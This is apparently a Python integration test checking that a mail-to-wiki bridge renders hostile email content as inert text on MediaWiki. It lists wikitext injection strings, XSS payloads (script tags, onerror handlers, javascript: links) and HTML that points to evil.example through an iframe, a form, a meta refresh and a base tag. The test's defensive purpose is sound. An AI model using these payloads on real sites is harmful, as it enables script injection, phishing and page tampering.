"""Hostile mail against the real wiki: no payload in any field may become markup or leave its space.

Every payload goes into each of five fields of its own mail (subject, sender display name, plain
body, HTML body, attachment file name). The mails of one field share an IMAP folder and are
published by ONE pass; each payload's page is then rendered by the real MediaWiki
(`action=parse`) and checked on its own: templates, categories, links, interwiki and language
links, page properties (magic words), redirects, external-link schemes, HTML elements and
attributes, the message block's structure and the section count. Header fields are sent as
RFC 2047 encoded words and file names as RFC 2231 values, so line breaks and control characters
reach the bridge exactly as a hostile sender can deliver them.
"""

from __future__ import annotations

import base64
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest

from bridge.adapters.wiki import WikiClient
from bridge.core.render.page import message_marker
from bridge.core.render.templates import FIELD_TEMPLATE
from bridge.sync.mailbox_pass import PassResult
from bridge.sync.wikisetup import install_templates
from tests.integration.support import Space, WikiReader, unique
from tests.servers import DovecotServer, MediaWikiServer

CATEGORIES = ["Injection mail", "Mail archive"]
BOT_USER = "Bridgebot"
PARSE_PROPS = "text|categories|links|templates|images|externallinks|iwlinks|langlinks|properties|sections"
SAFE_SCHEMES = ("http://", "https://", "mailto:")
# Elements a thread page may contain at all; lists only inside the bridge's attachment list.
ALLOWED_TAGS = frozenset({"div", "span", "p", "pre", "br", "a", "b", "i", "h2"})
ATTACHMENT_LIST_TAGS = frozenset({"ul", "li"})
VOID_TAGS = frozenset(
    {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
)
DANGEROUS_URL_SCHEMES = ("javascript:", "data:", "vbscript:")


@dataclass(frozen=True)
class Payload:
    """One hostile string.

    `swallows_html_tail` marks HTML that hides what follows it (a browser would too); `href` is the
    link target an HTML payload legitimately carries, which the page must keep unchanged.
    """

    id: str
    text: str
    swallows_html_tail: bool = False
    href: str | None = None


PAYLOADS: tuple[Payload, ...] = (
    Payload("template", "{{Delete}}"),
    Payload("template-variants", "{{\nDelete\n|reason=spam}} {{{1|default}}}"),
    Payload("subst", "{{subst:Delete|reason=x}}"),
    Payload("invoke", "{{#invoke:Evil|main}}"),
    Payload("parser-if", "{{#if:x|[[Category:Evil]]|no}}"),
    Payload("parser-tag", "{{#tag:script|alert(1)}}"),
    Payload("pagename", "{{PAGENAME}}"),
    Payload("notoc", "__NOTOC__"),
    Payload("noindex", "__NOINDEX__"),
    Payload("disambig", "__DISAMBIG__"),
    Payload(
        "magic-more",
        "{{DISPLAYTITLE:Evil}} {{DEFAULTSORT:Evil}} __NOEDITSECTION__ __HIDDENCAT__ __INDEX__ "
        "__NEWSECTIONLINK__ __FORCETOC__ __TOC__",
    ),
    Payload("redirect", "#REDIRECT [[Main Page]]"),
    Payload("category", "[[Category:Evil]]"),
    Payload("category-colon", "[[:Category:X]]"),
    Payload("interwiki", "[[wikipedia:Foo]]"),
    Payload("interlanguage", "[[de:Foo]]"),
    Payload("file", "[[File:Evil.png]]"),
    Payload("media", "[[Media:x]]"),
    Payload("special", "[[Special:UserLogout]]"),
    Payload("piped-link", "[[Main Page|click]]"),
    Payload("external-js", "[javascript:alert(1) x]"),
    Payload("external-relative", "[//evil.example/ protocol-relative]"),
    Payload("signature", "~~~~"),
    Payload("signature-date", "~~~~~"),
    Payload("close-div", "</div></div></div>"),
    Payload("close-pre", "</pre>"),
    Payload("close-nowiki", "</nowiki>"),
    Payload("open-nowiki", "<nowiki>"),
    Payload("script", "<script>alert(1)</script>"),
    Payload("img-onerror", "<img src=x onerror=alert(1)>"),
    Payload("iframe", '<iframe src="https://evil.example/"></iframe>'),
    Payload(
        "span-fixed",
        '<span style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="alert(1)">x</span>',
    ),
    Payload("collapsible", '<div class="mw-collapsible mw-collapsed">hidden</div>'),
    Payload("table", '{| class="wikitable"\n|-\n| a || b\n|}'),
    Payload("table-breakout", "|}\n|}\n</div>\n{|\n|-\n| x"),
    Payload("hr", "----"),
    Payload("heading", "== Fake heading =="),
    Payload("heading-other", "= Fake h1 =\n<h2>Fake html heading</h2>"),
    Payload("list", "* list item\n# numbered"),
    Payload("definition", "; term : definition"),
    Payload("indent", ": indent"),
    Payload("leading-space-pre", "   leading-space pre"),
    Payload("isbn", "ISBN 9780306406157"),
    Payload("rfc", "RFC 1234"),
    Payload("pmid", "PMID 123"),
    Payload("language-converter", "-{zh:x}-"),
    Payload("ref", "<ref>x</ref>"),
    Payload("references", "<references/>"),
    Payload("gallery", "<gallery>File:X.png</gallery>"),
    Payload("math", "<math>x</math>"),
    Payload("onlyinclude", "<onlyinclude>only</onlyinclude><includeonly>inc</includeonly>"),
    Payload("entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Payload("entity-braces", "&#123;&#123;Delete&#125;&#125; &#x7B;&#x7B;Delete&#x7D;&#x7D;"),
    Payload("percent-braces", "%7B%7BDelete%7D%7D"),
    Payload("bidi", "\u202eevil\u202c \u2066isolate\u2069 \u200fmark"),
    Payload("zero-width", "{\u200d{Delete}\u200d} _\u200b_NOTOC_\u200c_ [\u2060[Category:Evil]]"),
    Payload("comment", "<!-- comment", swallows_html_tail=True),
    Payload("bold", "'''bold''' ''italic''"),
    # Aimed at the relaxed contexts: `<pre>` bodies escape only tags and entities, lines only
    # what opens markup there.
    Payload("close-pre-variants", "</PRE>a</pre >b</pre\tx=1>c<pre>d</pre>"),
    Payload("nowiki-in-pre", "<nowiki>[[Category:Evil]]</nowiki> <nowiki/>{{Delete}}"),
    Payload("entity-literal", "&lt;b&gt; &amp;lt; &#60;i&#62; &copy 2026 &para;graph &ampx"),
    Payload("signature-lines", "~~~~\n~~~\n~~~~~\n ~~~~"),
    Payload("subst-save", "{{subst:PAGENAME}} {{safesubst:CURRENTYEAR}} {{subst:#if:1|[[Category:Evil]]}}"),
    Payload("switch-lines", "__NOTOC__\n__NOEDITSECTION__ __INDEX__\nx__TOC__x"),
    Payload("isbn-nbsp", "ISBN\u00a0978-0-306-40615-7 RFC&nbsp;1234 PMID&#160;42"),
    Payload("free-url", "see https://evil.example/x, mailto:a@evil.example and news:comp.lang"),
    Payload("line-starts", "----\n{|\n|-\n! a !! b\n|}\n=x=\n;t:d\n-{x}-"),
    Payload("quote-edges", "'x'' y' '''"),
    Payload("cr-tab-nul", "a\rb\r\n\tc \x00d"),
)

# Markup that only an HTML body can carry (mailed in the HTML body only).
HTML_PAYLOADS: tuple[Payload, ...] = (
    Payload("a-javascript", '<a href="javascript:alert(1)">js link</a>'),
    Payload("a-javascript-case", '<a href="  JaVaScRiPt:alert(1)">js link</a>'),
    Payload("a-data", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>'),
    Payload(
        "a-template-href",
        '<a href="https://x.example/{{Delete}}">template href</a>',
        href="https://x.example/{{Delete}}",
    ),
    Payload(
        "a-magic-href",
        '<a href="https://example.com/__NOTOC__">magic href</a>',
        href="https://example.com/__NOTOC__",
    ),
    Payload(
        "a-brackets-href",
        '<a href="https://example.com/a]]b|c[[Category:Evil]]">brackets href</a>',
        href="https://example.com/a]]b|c[[Category:Evil]]",
    ),
    Payload(
        "a-signature-href",
        '<a href="https://example.com/~~~~">signature href</a>',
        href="https://example.com/~~~~",
    ),
    Payload(
        "a-mailto-signature",
        '<a href="mailto:x@example.com?subject=~~~~~{{Delete}}">mailto</a>',
        href="mailto:x@example.com?subject=~~~~~{{Delete}}",
    ),
    Payload(
        "a-onclick",
        '<a href="https://example.com/x" onclick="alert(1)">onclick</a>',
        href="https://example.com/x",
    ),
    Payload("img-cid-missing", '<img src="cid:nonexistent" alt="missing">'),
    Payload("img-remote", '<img src="https://tracker.example/pixel.gif" width="1" height="1">'),
    Payload("base", '<base href="https://evil.example/">'),
    Payload("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    Payload("form", '<form action="https://evil.example/"><input name="p"><button>go</button></form>'),
    Payload("style", "<style>body{display:none}</style>"),
    Payload("svg-onload", '<svg onload="alert(1)"><circle r="1"/></svg>'),
    Payload("object", '<object data="https://evil.example/x.swf"></object><embed src="x.swf">'),
)

# Subjects that try to pick a page outside the mapping's prefix (checked in the subject field).
TITLE_PAYLOADS: tuple[Payload, ...] = (
    Payload("title-common-js", "MediaWiki:Common.js"),
    Payload("title-user", "User:Admin"),
    Payload("title-relative", "../../Main Page"),
    Payload("title-dots", ".."),
    Payload("title-talk", "Talk:x"),
    Payload("title-interwiki", "wikipedia:Foo"),
    Payload("title-leading-colon", ":Main Page"),
    Payload("title-slash", "/Main Page/../x"),
    Payload("title-illegal", "#<>[]|{}"),
    Payload("title-control", "bell\x07 escape\x1b[31m nul\x00 del\x7f next\x85line\u2028sep"),
    Payload("title-long-ascii", "A" * 300),
    Payload("title-long-utf8", "Ää€" * 60),
    Payload("title-entity", "&amp;&#58;&#x2F;%2F%3A"),
    Payload("title-tilde", "~~~~~"),
)

FIELDS = ("subject", "sender", "plain_body", "html_body", "attachment_name")
ALL_PAYLOADS = {payload.id: payload for payload in (*PAYLOADS, *HTML_PAYLOADS, *TITLE_PAYLOADS)}


# -- building hostile mail -----------------------------------------------------------------------


def encoded_words(text: str) -> str:
    """Return `text` as folded RFC 2047 encoded words, so any character (line breaks too) survives."""
    chunks = [text[start : start + 20] for start in range(0, len(text), 20)] or [""]
    return "\r\n ".join(f"=?utf-8?b?{base64.b64encode(chunk.encode()).decode()}?=" for chunk in chunks)


def base64_lines(data: bytes) -> str:
    """Return `data` as base64 in 76-character lines."""
    encoded = base64.b64encode(data).decode()
    return "\r\n".join(encoded[start : start + 76] for start in range(0, len(encoded), 76))


def canary(field_name: str, payload: Payload) -> str:
    """Return the word each mail carries after its payload: it must stay inside the message block."""
    return f"canary{FIELDS.index(field_name)}x{sorted(ALL_PAYLOADS).index(payload.id)}end"


def message_id(field_name: str, payload: Payload) -> str:
    """Return the Message-ID (canonical form) of the mail carrying `payload` in `field_name`."""
    return f"{field_name.replace('_', '-')}.{payload.id}@injection.example"


def hostile_mail(field_name: str, payload: Payload) -> bytes:
    """Build the raw mail that carries `payload` in `field_name`, followed by its canary."""
    word = canary(field_name, payload)
    subject = payload.text if field_name == "subject" else f"Injection {field_name} {payload.id}"
    sender = payload.text if field_name == "sender" else "Injection Tester"
    headers = [
        f"From: {encoded_words(sender)} <tester@injection.example>",
        "To: team-sales@example.de",
        f"Subject: {encoded_words(subject)}",
        "Date: Fri, 20 Nov 2026 09:00:00 +0000",
        f"Message-ID: <{message_id(field_name, payload)}>",
        "MIME-Version: 1.0",
    ]
    if field_name == "plain_body":
        body = _text_part("plain", f"{payload.text}\n{word} after the payload\n")
    elif field_name == "html_body":
        html = (
            "<html><head><title>t</title></head><body>\n<p>Before the payload.</p>\n"
            f"{payload.text}\n<p>{word} after the payload</p>\n</body></html>\n"
        )
        body = _text_part("html", html)
    elif field_name == "attachment_name":
        boundary = "injection-boundary-7d1f"
        file_name = quote(payload.text, safe="")
        body = (
            f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
            f"--{boundary}\r\n{_text_part('plain', f'Body text {word}.')}"
            f"--{boundary}\r\n"
            f"Content-Type: application/octet-stream; name*=utf-8''{file_name}\r\n"
            f"Content-Disposition: attachment; filename*=utf-8''{file_name}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n"
            f"{base64_lines(b'not uploaded: the wiki refuses .bin files ' + payload.id.encode())}\r\n"
            f"--{boundary}--\r\n"
        )
    else:
        body = _text_part("plain", f"Body text {word}.")
    return ("\r\n".join(headers) + "\r\n" + body).encode()


def _text_part(subtype: str, text: str) -> str:
    return (
        f"Content-Type: text/{subtype}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{base64_lines(text.encode())}\r\n"
    )


def payloads_of(field_name: str) -> tuple[Payload, ...]:
    """Return the payloads mailed in `field_name` (title ones only as subjects, HTML ones only as HTML)."""
    if field_name == "subject":
        return (*PAYLOADS, *TITLE_PAYLOADS)
    if field_name == "html_body":
        return (*PAYLOADS, *HTML_PAYLOADS)
    return PAYLOADS


# -- reading the rendered page -------------------------------------------------------------------


@dataclass
class _Element:
    tag: str
    classes: frozenset[str]


class PageStructure(HTMLParser):
    """Elements, attributes, message blocks and headline text of a page's parsed HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[_Element] = []
        self.problems: list[str] = []
        self.message_ids: list[str] = []
        self.message_divs = 0
        self.block_text: dict[str, list[str]] = {}
        self.headlines: list[list[str]] = []
        self.external_hrefs: list[str] = []
        self._open_blocks: list[tuple[str, int]] = []
        self._headline_depth: int | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Check the element and its attributes; track blocks and headlines."""
        values = {name.lower(): value or "" for name, value in attrs}
        classes = frozenset(values.get("class", "").split())
        inside_attachments = any("ewb-attachments" in element.classes for element in self.stack)
        if tag not in ALLOWED_TAGS and not (tag in ATTACHMENT_LIST_TAGS and inside_attachments):
            self.problems.append(f"element <{tag}> on the page: {attrs}")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"event handler attribute {name}={value!r} on <{tag}>")
            if name in ("href", "src", "action", "formaction") and value.strip().lower().startswith(
                DANGEROUS_URL_SCHEMES
            ):
                self.problems.append(f"{name}={value!r} on <{tag}>")
        style = values.get("style", "").lower().replace(" ", "")
        if any(word in style for word in ("position", "display", "url(", "expression", "visibility")):
            self.problems.append(f"style {values['style']!r} on <{tag}>")
        if tag == "pre" and "ewb-text" not in classes:
            self.problems.append(f"preformatted block not made by the bridge: <pre {attrs}>")
        if "mw-collapsible" in classes and "ewb-quoted" not in classes:
            self.problems.append(
                f"collapsible element not made by the bridge: <{tag} class={sorted(classes)}>"
            )
        if "external" in classes:
            self.external_hrefs.append(values.get("href", ""))
        if "ewb-message" in classes:
            self.message_divs += 1
        if "data-message-id" in values:
            self.message_ids.append(values["data-message-id"])
            self.block_text[values["data-message-id"]] = []
            self._open_blocks.append((values["data-message-id"], len(self.stack)))
        if "mw-headline" in classes:
            self.headlines.append([])
            self._headline_depth = len(self.stack)
        if tag not in VOID_TAGS:
            self.stack.append(_Element(tag, classes))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A self-closing element opens nothing."""
        self.handle_starttag(tag, attrs)
        if tag not in VOID_TAGS and self.stack and self.stack[-1].tag == tag:
            self.stack.pop()

    def handle_endtag(self, tag: str) -> None:
        """Close the innermost open element of that name (MediaWiki's output is balanced)."""
        if tag in VOID_TAGS:
            return
        for index in range(len(self.stack) - 1, -1, -1):
            if self.stack[index].tag == tag:
                del self.stack[index:]
                break
        else:
            self.problems.append(f"unbalanced </{tag}>")
        self._open_blocks = [(mid, depth) for mid, depth in self._open_blocks if depth < len(self.stack)]
        if self._headline_depth is not None and self._headline_depth >= len(self.stack):
            self._headline_depth = None

    def handle_data(self, data: str) -> None:
        """Collect text into every open message block and the open headline."""
        for mid, _ in self._open_blocks:
            self.block_text[mid].append(data)
        if self._headline_depth is not None:
            self.headlines[-1].append(data)


def normalize_text(text: str) -> str:
    """Collapse white space and control characters, as a reader of the page sees text."""
    visible = "".join(" " if unicodedata.category(char) == "Cc" else char for char in text)
    return " ".join(visible.split())


@dataclass
class PublishedField:
    """One field's folder after its single pass: where each mail went and what the wiki made of it."""

    space: Space
    result: PassResult
    titles: dict[str, str]
    redirects: set[str]
    other_titles_written: list[str]
    parsed: dict[str, dict[str, Any]] = field(default_factory=dict)


def _chunked(items: Sequence[str], size: int) -> Iterator[Sequence[str]]:
    for start in range(0, len(items), size):
        yield items[start : start + size]


def _last_ids(reader: WikiReader) -> tuple[int, int]:
    """Return the newest recent-changes id and revision id on the wiki."""
    changes = reader.get(action="query", list="recentchanges", rcprop="ids", rclimit="1")
    rcid = max((int(change["rcid"]) for change in changes["query"]["recentchanges"]), default=0)
    contribs = reader.get(action="query", list="usercontribs", ucuser=BOT_USER, ucprop="ids", uclimit="1")
    revid = max((int(edit["revid"]) for edit in contribs["query"]["usercontribs"]), default=0)
    return rcid, revid


def _titles_written_since(reader: WikiReader, rcid: int, revid: int) -> list[str]:
    """Return every title the bot account edited, created or logged after the given ids."""
    changes = reader.get(
        action="query",
        list="recentchanges",
        rcuser=BOT_USER,
        rcprop="title|ids",
        rctype="new|edit|log",
        rclimit="max",
    )["query"]["recentchanges"]
    contribs = reader.get(
        action="query", list="usercontribs", ucuser=BOT_USER, ucprop="title|ids", uclimit="max"
    )["query"]["usercontribs"]
    titles = [change["title"] for change in changes if int(change["rcid"]) > rcid]
    titles += [edit["title"] for edit in contribs if int(edit["revid"]) > revid]
    return titles


def publish_field(
    field_name: str, dovecot: DovecotServer, mediawiki: MediaWikiServer, directory: Path
) -> PublishedField:
    """Mail every payload in `field_name` into one folder, run one pass and locate each page."""
    name = unique("Inj")
    space = Space(
        dovecot=dovecot,
        mediawiki=mediawiki,
        directory=directory,
        user="team-sales",
        folders=[f"{name}-{field_name.replace('_', '-')}"],
        prefix=f"{name}/Mail",
        categories=CATEGORIES,
    )
    space.write_config(batch_size=200)
    for payload in payloads_of(field_name):
        assert space.append(hostile_mail(field_name, payload)) is not None
    reader = WikiReader(mediawiki)
    client = WikiClient(space.settings().wiki)
    try:
        install_templates(client, only_missing=True)  # before the baseline: not part of the pass
    finally:
        client.close()
    rcid, revid = _last_ids(reader)
    result = space.run_pass()
    written = [
        title
        for title in _titles_written_since(reader, rcid, revid)
        if not title.startswith(f"{space.prefix}/")
    ]
    titles = reader.titles(space.prefix)
    markers = {
        message_marker(message_id(field_name, p)): message_id(field_name, p) for p in payloads_of(field_name)
    }
    located: dict[str, str] = {}
    redirects: set[str] = set()
    for batch in _chunked(titles, 50):
        body = reader.get(
            action="query",
            prop="revisions|info",
            titles="|".join(batch),
            rvprop="content",
            rvslots="main",
        )
        for page in body["query"]["pages"]:
            if page.get("redirect"):
                redirects.add(page["title"])
            text = str(page["revisions"][0]["slots"]["main"]["content"])
            for marker, mid in markers.items():
                if marker in text:
                    located[mid] = page["title"]
    return PublishedField(space, result, located, redirects, written)


@pytest.fixture(scope="module")
def published(
    dovecot: DovecotServer, mediawiki: MediaWikiServer, tmp_path_factory: pytest.TempPathFactory
) -> Callable[[str], PublishedField]:
    """Return a function that publishes a field's mails once (on first use) and then reuses the result."""
    cache: dict[str, PublishedField] = {}

    def get(field_name: str) -> PublishedField:
        if field_name not in cache:
            directory = tmp_path_factory.mktemp(f"injection-{field_name}")
            cache[field_name] = publish_field(field_name, dovecot, mediawiki, directory)
        return cache[field_name]

    return get


@pytest.fixture(scope="module")
def reader(mediawiki: MediaWikiServer) -> WikiReader:
    """An anonymous reader of the wiki, shared by the module."""
    return WikiReader(mediawiki)


def parsed_page(published_field: PublishedField, reader: WikiReader, title: str) -> dict[str, Any]:
    """Return the wiki's `action=parse` answer for `title` (fetched once)."""
    if title not in published_field.parsed:
        published_field.parsed[title] = reader.get(action="parse", page=title, prop=PARSE_PROPS)["parse"]
    return published_field.parsed[title]


def inertness_problems(
    parse: dict[str, Any], field_name: str, payload: Payload, mid: str, title: str, redirect: bool
) -> list[str]:
    """Return everything on the rendered page that the payload must not have caused."""
    problems: list[str] = []
    templates = {template["title"] for template in parse["templates"]}
    if templates - {f"Template:{FIELD_TEMPLATE}"}:
        problems.append(f"templates used: {sorted(templates)}")
    categories = {category["category"] for category in parse["categories"]}
    expected_categories = {name.replace(" ", "_") for name in CATEGORIES}
    if categories != expected_categories:
        problems.append(f"categories: {sorted(categories)}")
    if parse["links"]:
        problems.append(f"internal links: {[link['title'] for link in parse['links']]}")
    if parse["images"]:
        problems.append(f"files used: {parse['images']}")
    if parse["iwlinks"]:
        problems.append(f"interwiki links: {parse['iwlinks']}")
    if parse["langlinks"]:
        problems.append(f"language links: {parse['langlinks']}")
    if parse["properties"]:
        problems.append(f"page properties (magic words): {parse['properties']}")
    if redirect:
        problems.append("the page is a redirect")
    bad_links = [url for url in parse["externallinks"] if not url.lower().startswith(SAFE_SCHEMES)]
    if bad_links:
        problems.append(f"external links with other schemes: {bad_links}")
    if field_name != "html_body" and parse["externallinks"]:
        problems.append(f"external links from plain text (magic links?): {parse['externallinks']}")
    if len(parse["sections"]) != 1:
        problems.append(f"sections: {[section['line'] for section in parse['sections']]}")
    html = str(parse["text"])
    if BOT_USER in html or "Special:Contributions" in html:
        problems.append("a signature of the bot account")
    structure = PageStructure()
    structure.feed(html)
    structure.close()
    problems.extend(structure.problems)
    bad_hrefs = [href for href in structure.external_hrefs if not href.lower().startswith(SAFE_SCHEMES)]
    if bad_hrefs:
        problems.append(f"external anchors with other schemes: {bad_hrefs}")
    if payload.href is not None and field_name == "html_body":
        kept = [unquote(href) for href in structure.external_hrefs]
        if unquote(payload.href) not in kept:
            problems.append(f"the link to {payload.href!r} became {kept}")
    if structure.message_divs != 1:
        problems.append(f"{structure.message_divs} ewb-message blocks for 1 message")
    if structure.message_ids != [mid]:
        problems.append(f"data-message-id elements: {structure.message_ids}")
    text = normalize_text(" ".join(structure.block_text.get(mid, [])))
    word = canary(field_name, payload)
    if field_name == "html_body" and payload.swallows_html_tail:
        word = "Before the payload."
    if word not in text:
        problems.append(f"the message block lost its text {word!r} (closed early?): {text[:300]!r}")
    shown = normalize_text(payload.text)
    if field_name == "subject":
        headline = normalize_text("".join(structure.headlines[0])) if structure.headlines else ""
        if headline != shown:
            problems.append(f"the heading shows {headline!r}, not the subject {shown!r}")
    elif field_name in ("sender", "plain_body", "attachment_name") and shown not in text:
        problems.append(f"the block does not show the payload as typed: {text[:300]!r}")
    return problems


@pytest.mark.parametrize(
    ("field_name", "payload"),
    [
        pytest.param(field_name, payload, id=f"{field_name}-{payload.id}")
        for field_name in FIELDS
        for payload in payloads_of(field_name)
        if payload not in TITLE_PAYLOADS
    ],
)
def test_payload_is_inert(
    field_name: str, payload: Payload, published: Callable[[str], PublishedField], reader: WikiReader
) -> None:
    """The payload shows as text in its message block and has no effect on the rendered page."""
    check_payload(field_name, payload, published(field_name), reader)


@pytest.mark.parametrize("payload", TITLE_PAYLOADS, ids=lambda payload: payload.id)
def test_hostile_subject_stays_under_prefix(
    payload: Payload, published: Callable[[str], PublishedField], reader: WikiReader
) -> None:
    """A subject naming another namespace, path or illegal characters still gives a page under the prefix."""
    check_payload("subject", payload, published("subject"), reader)


def check_payload(
    field_name: str, payload: Payload, published_field: PublishedField, reader: WikiReader
) -> None:
    """Locate the payload's page under the prefix and assert that nothing on it came from the mail."""
    mid = message_id(field_name, payload)
    title = published_field.titles.get(mid)
    prefix = published_field.space.prefix
    assert title is not None, (
        f"{mid} is on no page under {prefix}/ (failed: {published_field.result.failed}, "
        f"pages created: {len(published_field.result.pages_created)})"
    )
    assert title.startswith(f"{prefix}/")
    assert "/" not in title[len(prefix) + 1 :] and len(title.encode()) <= 255, title
    parse = parsed_page(published_field, reader, title)
    problems = inertness_problems(parse, field_name, payload, mid, title, title in published_field.redirects)
    assert not problems, f"{payload.id} in {field_name} (page {title!r}):\n" + "\n".join(problems)


@pytest.mark.parametrize("field_name", FIELDS)
def test_pass_writes_only_under_the_prefix(
    field_name: str, published: Callable[[str], PublishedField], reader: WikiReader
) -> None:
    """One pass publishes every mail of the field on its own page and edits nothing outside the prefix."""
    published_field = published(field_name)
    result = published_field.result
    count = len(payloads_of(field_name))
    assert (result.published, result.failed) == (count, 0)
    assert published_field.other_titles_written == []
    prefix = published_field.space.prefix
    assert all(title.startswith(f"{prefix}/") for title in result.pages_created)
    on_wiki = reader.titles(prefix)
    assert sorted(result.pages_created) == on_wiki
    assert len(on_wiki) == count
    assert sorted(published_field.titles.values()) == on_wiki
